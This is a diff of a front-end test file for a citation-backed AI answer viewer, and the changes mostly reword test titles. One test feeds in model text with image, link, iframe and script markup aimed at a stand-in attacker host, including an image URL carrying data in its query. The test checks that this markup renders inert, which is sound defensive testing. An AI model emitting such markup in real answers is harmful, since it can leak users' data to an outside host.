@@ -43,13 +43,13 @@ describe('an interrupted answer', () => {
 });
 
 describe('the text of an answer', () => {
-  it("R3.10 a model's text without sources is marked as such, also in one line, and is not taken for passages", async () => {
+  it("R3.10 a model's text without sources is labelled as such, also on one line, and is not shown as passages", async () => {
     const { answers } = await openAnswers({ writer: 'model', found: 'closest', text: 'About a month, I think.', citations: [] });
     expect(answers[0]).toHaveTextContent('No document you can read supports this');
     expect(screen.queryByRole('heading', { name: 'Nearest passages' })).toBeNull();
   });
 
-  it('R3.10 passages are shown verbatim, whatever marks they start with', async () => {
+  it('R3.10 quoted passages are shown verbatim, even if they start with Markdown characters', async () => {
     const text = '3. Close the valve **slowly**. [1]\n> 55 °C is the `limit`. [2]';
     const { answers } = await openAnswers({ writer: 'quotes', found: 'closest', text, citations: [makeCitation(1), makeCitation(2)] });
     expect(answers[0]).toHaveTextContent('3. Close the valve **slowly**. 1');
@@ -58,7 +58,7 @@ describe('the text of an answer', () => {
     expect(screen.queryByText(/No document you can read supports this/)).toBeNull();
   });
 
-  it("R3.10 T15 a model's text loads nothing and links nowhere: pictures, links and markup are plain text", async () => {
+  it("R3.10 T15 a model's text loads and links nothing: pictures, links and markup are plain text", async () => {
     const text = [
       '![secret](https://evil.example/p.png?q=price) [open](https://evil.example/?d=1) <https://evil.example/auto> https://evil.example/bare',
       '<img src="https://evil.example/i.png"><iframe src="https://evil.example"></iframe><script src="https://evil.example/s.js"></script>',
@@ -76,7 +76,7 @@ describe('the text of an answer', () => {
   });
 });
 
-it('R3.10 an open passage is removed as soon as its reader loses access to the source', async () => {
+it('R3.10 an open passage closes as soon as its reader loses access to the source', async () => {
   gateway.on('ai', 'passage', () => ({
     citation: makeCitation(1, { page: null }),
     heading: 'Limits',
